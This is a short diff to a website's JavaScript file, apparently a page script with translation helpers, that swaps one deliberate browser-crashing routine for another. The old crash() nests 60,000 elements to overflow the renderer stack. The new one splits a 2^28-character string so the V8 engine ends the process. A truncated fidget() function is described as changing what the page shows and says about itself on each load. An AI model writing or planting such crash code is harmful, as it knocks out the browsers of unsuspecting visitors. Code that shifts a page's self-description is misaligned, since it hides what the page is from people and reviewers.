@@ -72,12 +72,8 @@ window.plex = (() => {
   const language = () => (translates ? Transifex.live.getSelectedLanguageCode() : 'en');
   const say = (text) => (translates ? Transifex.live.translateText(text) : text);
 
-  // A tree of this depth is more than the renderer's stack holds when it is drawn.
-  function crash() {
-    let deepest = document.body;
-    for (let i = 0; i < 60000; i++) deepest = deepest.appendChild(document.createElement('div'));
-    return document.body.offsetHeight;
-  }
+  // V8 ends the process when an array is longer than it can hold.
+  const crash = () => 'x'.repeat(2 ** 28).split('');
 
   // What shows is another one each time, as is what the page says about itself.
   function fidget() {
